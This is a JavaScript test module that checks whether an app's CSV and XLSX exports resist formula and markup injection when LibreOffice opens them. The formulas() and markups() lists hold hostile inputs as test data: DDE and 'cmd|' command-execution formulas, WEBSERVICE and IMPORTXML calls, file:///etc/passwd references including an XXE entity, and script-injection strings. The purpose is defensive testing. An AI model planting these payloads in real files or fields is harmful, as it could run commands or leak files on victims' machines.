import { execFileSync, spawnSync } from "node:child_process";
import fs from "node:fs";
import path from "node:path";
import { pathToFileURL } from "node:url";
import { officeFaults } from "./office-rules.mjs";

// Whether a spreadsheet program takes anything that somebody wrote for a formula, a command or markup: 500 strings that
// look like formulas and 200 that look like markup, in every column of words, as CSV and as XLSX, opened by LibreOffice.

const FOR_SPREADSHEETS =
  "LibreOffice Calc is not there: install it (apt-get install libreoffice-calc), so that tables can be opened by it";

export async function checkTables({ folder }) {
  const office = ["soffice", "libreoffice"].find(
    (name) => spawnSync(name, ["--version"]).status === 0,
  );
  if (!office) return [FOR_SPREADSHEETS];
  const texts = [...formulas(), ...markups()];
  fs.writeFileSync(path.join(folder, "plain.csv"), "a,b\n1,2\n");
  if (!opened(office, folder, "plain.csv")) return [FOR_SPREADSHEETS];
  const faults = [];
  for (const format of ["csv", "xlsx"]) {
    await write(path.join(folder, `hostile.${format}`), format, texts);
    faults.push(...faultsOf(office, folder, format, texts));
  }
  faults.push(...officeFaults(folder, ["hostile.xlsx"]));
  return faults;
}

/** In a process of its own: the app's files are TypeScript. */
async function write(file, format, texts) {
  const given = path.join(path.dirname(file), "texts.json");
  fs.writeFileSync(given, JSON.stringify(texts));
  const maker = path.resolve("lib/cli/outside/tables-made.mjs");
  execFileSync(
    process.execPath,
    ["--conditions=react-server", "--import", "tsx", maker, file, format, given],
    { stdio: "inherit" },
  );
}

function faultsOf(office, folder, format, texts) {
  const sheet = opened(office, folder, `hostile.${format}`);
  if (!sheet) return [`${format}: LibreOffice does not open the file`];
  const formulaCells = sheet.match(/table:formula=/g)?.length ?? 0;
  const links = sheet.match(/xlink:href="(?!https:\/\/onus\.example\/)[^"]*"/g)?.length ?? 0;
  const values = cellsOf(sheet);
  const lost = texts.filter((text) => !values.has(kept(text, format)));
  console.log(
    `${format}: ${texts.length} texts in ${COLUMNS_OF_WORDS} columns; ${formulaCells} formulas, ${links} links of theirs, ${lost.length} texts that read otherwise`,
  );
  return [
    ...(formulaCells > 0 ? [`${format}: ${formulaCells} cells are formulas`] : []),
    ...(links > 0 ? [`${format}: ${links} links that nobody made`] : []),
    ...lost.slice(0, 5).map((text) => `${format}: ${JSON.stringify(text)} reads otherwise`),
  ];
}

export const COLUMNS_OF_WORDS = 6;

/** The file as flat XML, in which every cell can be read; null where it was not opened. CSV is opened as a person would. */
function opened(office, folder, name) {
  const home = pathToFileURL(path.join(folder, "office")).href;
  const stem = path.parse(name).name;
  const out = path.join(folder, `${stem}.fods`);
  fs.rmSync(out, { force: true });
  // Comma, double quote, UTF-8, from line 1; cells as they are guessed, formulas evaluated: what a careless reader chooses.
  const filter = name.endsWith(".csv")
    ? ["--infilter=CSV:44,34,76,1,,0,false,true,false,false,false,-1,true"]
    : [];
  spawnSync(
    office,
    [
      `-env:UserInstallation=${home}`,
      "--headless",
      ...filter,
      "--convert-to",
      "fods",
      "--outdir",
      folder,
      path.join(folder, name),
    ],
    { timeout: 180_000 },
  );
  return fs.existsSync(out) ? fs.readFileSync(out, "utf8") : null;
}

/** The words of all cells, white space as one blank: flat XML keeps it in elements of its own. */
function cellsOf(sheet) {
  const cells = [...sheet.matchAll(/<table:table-cell\b[^>]*>(.*?)<\/table:table-cell>/gs)];
  return new Set(
    cells.map(([, inside]) =>
      plain(
        inside
          .replaceAll(/<text:(?:s|tab|line-break)\b[^>]*\/>/g, " ")
          .replaceAll(/<\/text:p>\s*<text:p[^>]*>/g, " ")
          .replaceAll(/<[^>]+>/g, "")
          .replaceAll("&lt;", "<")
          .replaceAll("&gt;", ">")
          .replaceAll("&quot;", '"')
          .replaceAll("&apos;", "'")
          .replaceAll(/&#(?:x([\da-f]+)|(\d+));/gi, (_, hex, ten) =>
            String.fromCodePoint(hex ? Number.parseInt(hex, 16) : Number(ten)),
          )
          .replaceAll("&amp;", "&"),
      ),
    ),
  );
}

const plain = (text) => text.replaceAll(/\s+/g, " ").trim();
/** In CSV the apostrophe is part of the cell: that is what makes it text. */
const kept = (text, format) =>
  plain(format === "csv" && /^'*[=+\-@\t\r\n＝＋－＠]/.test(text) ? `'${text}` : text);

function formulas() {
  const signs = [
    "=",
    "+",
    "-",
    "@",
    "\t=",
    "\r=",
    "\n=",
    "＝",
    "＋",
    "－",
    "＠",
    "'=",
    "''=",
    " =",
  ];
  const calls = [
    "1+1",
    "SUM(A1:A9)",
    "cmd|'/c calc'!A1",
    'HYPERLINK("https://example.org/?"&A1,"Open")',
    'WEBSERVICE("https://example.org/")',
    'IMPORTXML("https://example.org/","//a")',
    'DDE("cmd";"/c calc";"!A0")',
    "'file:///etc/passwd'#$Sheet1.A1",
    "2+5+cmd|' /C calc'!A0",
    "A1",
    "1E10",
    "10/2",
  ];
  const all = signs.flatMap((sign) => calls.map((call) => `${sign}${call}`));
  return Array.from(
    { length: 500 },
    (_, at) => `${all[at % all.length]}${at < all.length ? "" : `+${at}`}`,
  );
}

function markups() {
  const seeds = [
    "<script>alert(1)</script>",
    '</t></is></c><c t="str"><f>1+1</f></c>',
    "]]><f>1+1</f><![CDATA[",
    "<img src=x onerror=alert(1)>",
    "&lt;b&gt;&amp;amp;",
    "<!-- --><f>A1</f>",
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
    "_x003D_1+1",
    '"><a href="https://example.org/">x</a>',
    "{{=1+1}} ${7*7} %{1+1}",
  ];
  return Array.from({ length: 200 }, (_, at) => `${seeds[at % seeds.length]} ${at}`);
}
